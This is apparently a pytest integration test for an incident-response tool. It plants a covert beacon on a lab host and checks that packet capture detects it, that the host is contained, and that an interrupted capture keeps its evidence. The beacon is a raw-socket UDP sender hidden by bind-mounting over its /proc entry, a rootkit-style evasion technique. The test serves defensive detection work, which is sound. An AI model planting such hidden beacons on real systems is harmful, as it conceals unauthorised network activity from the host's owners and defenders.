"""The wire names a beacon that the host hides from its own tools; a capture delays no cut, and ends in good order."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import time
from pathlib import Path

from stopgap.orchestrator.evidence.capture import CaptureParser
from stopgap.orchestrator.findings.packets.frames import Frame, frame_of
from stopgap.orchestrator.findings.packets.reading import PACKETS

from .conftest import LAB, ROOT, Lab
from .operator import Operator

HIDDEN = """
import socket, struct, time
ends = socket.inet_aton("203.0.113.10") + socket.inet_aton("198.51.100.2")
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
while True:
    body = struct.pack(">4H", 40123, 4446, 12, 0) + b"tick"
    raw.sendto(struct.pack(">2BHHHBBH", 69, 0, 32, 0, 0, 64, 17, 0) + ends + body, ("198.51.100.2", 0))
    time.sleep(0.5)
"""
"""Sends as a rootkit does, past the sockets that the kernel lists; its process is hidden by a mount."""
HIDE = "mkdir -p /tmp/none; echo $$ >/tmp/pid; mount --bind /tmp/none /proc/$$; exec python3 -c"
RUNBOOK = """
name: Watch it, then cut it off
steps:
  - {id: wire, task: evidence.wire, with: {lasts: 10m, before: 1s, ends: steps}, on_failure: continue}
  - {id: cut-off, task: traffic.block}
  - {id: volatile, task: evidence.collect, with: {artifacts: [sockets, socket-list]}}
"""
WATCH = "{name: Watch it, steps: [{id: wire, task: evidence.wire, with: {for: 10m}}]}"


def evidence(home: Path, run: str) -> Path:
    return home / "runs" / run / "evidence/edge/wire"


def test_a_beacon_that_the_host_hides_is_named_by_the_wire(lab: Lab, tmp_path: Path) -> None:
    operator = Operator(lab, tmp_path / "state")
    (tmp_path / "both.yaml").write_text(RUNBOOK)
    (tmp_path / "watch.yaml").write_text(WATCH)
    beacon = subprocess.Popen(
        [LAB, "ssh", "web", f"{HIDE} '{HIDDEN}'"], cwd=ROOT, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL
    )
    try:
        dry = operator.stopgap("run", str(tmp_path / "both.yaml"), "-i", operator.inventory, "-t", "web", "--dry-run")
        assert "packets of 203.0.113.10 2001:db8:113::10 on br0, by python3" in " ".join(dry.out.split())
        assert not (tmp_path / "state/runs").exists()
        done = operator.run(str(tmp_path / "both.yaml"), "-t", "web", "--yes")
        assert done.outcomes == {"wire": "unchanged", "cut-off": "changed", "volatile": "unchanged"}, done.out
        assert done.last["containment"] == {"web": "contained"}
        run = done.last["run"]
        own = (tmp_path / "state/runs" / run / "evidence/web/volatile").glob("*-socket-list.txt")
        assert ":4446 " not in "".join(path.read_text() for path in own)
        found = json.loads((evidence(tmp_path / "state", run) / "findings.json").read_text())
        shown = {(f["id"], f["severity"]): " ".join(one["what"] for one in f["seen"]) for f in found["findings"]}
        hidden = shown["wire-connection-hidden", "high"]
        assert "udp 203.0.113.10 port 40123 to 198.51.100.2 port 4446" in hidden
        assert "198.51.100.2 udp port 4446: every 0." in shown["wire-beacon", "high"]
        assert "198.51.100.2 tcp port 4445" in shown["wire-beacon", "medium"]
        assert operator.stopgap("verify", run).status == 0
        seen = frames(evidence(tmp_path / "state", run))
        assert not [f for f in seen if 22 in (f.source_port, f.destination_port)], "the operator's own SSH"
        assert {len(f.source) for f in seen} == {4, 16}
        flows = next(evidence(tmp_path / "state", run).glob("*-flow-table.txt")).read_text()
        assert "nf_conntrack_" in flows
        interrupted(lab, tmp_path)
    finally:
        lab.ssh("web", "kill $(cat /tmp/pid); umount /proc/$(cat /tmp/pid); rm -rf /tmp/pid /tmp/none")
        beacon.kill()
        beacon.wait()
        operator.stopgap("undo", "last", "--yes")


def interrupted(lab: Lab, folder: Path) -> None:
    """Ctrl-C ends a capture that would go on for ten minutes, and keeps what came."""
    words = ["run", str(folder / "watch.yaml"), "-i", "inventories/lab.yaml", "-t", "web", "--yes", "--json"]
    watching = subprocess.Popen(
        [LAB, "exec", "operator", "stopgap", *words], cwd=ROOT, text=True, stdout=subprocess.PIPE,
        env={**os.environ, "STOPGAP_HOME": str(folder / "watched")},
    )  # fmt: skip
    end = time.monotonic() + 60
    while not any(
        path.stat().st_size > 2000 for path in folder.glob(f"watched/runs/*/evidence/edge/wire/*-{PACKETS}*")
    ):
        assert watching.poll() is None
        assert time.monotonic() < end
        time.sleep(0.1)
    watching.send_signal(signal.SIGINT)
    out, _ = watching.communicate(timeout=60)
    assert watching.returncode == 130, out
    (manifest,) = folder.glob("watched/runs/*/evidence/edge/wire/manifest.json")
    items = {item["id"]: item for item in json.loads(manifest.read_text())["items"]}
    assert items[PACKETS]["bytes"] > 2000
    assert not items[PACKETS]["truncated"]
    assert items["flow-table-after"]["ran"]
    assert frames(manifest.parent)
    assert "packet_reader" not in lab.read("edge", "ps -e -o args")


def frames(folder: Path) -> list[Frame]:
    parser = CaptureParser()
    (path,) = folder.glob(f"*-{PACKETS}.pcapng")
    found = [frame_of(block.packet) for block in parser.feed(path.read_bytes()) if block.packet]
    assert not parser.damage
    return [frame for frame in found if frame]
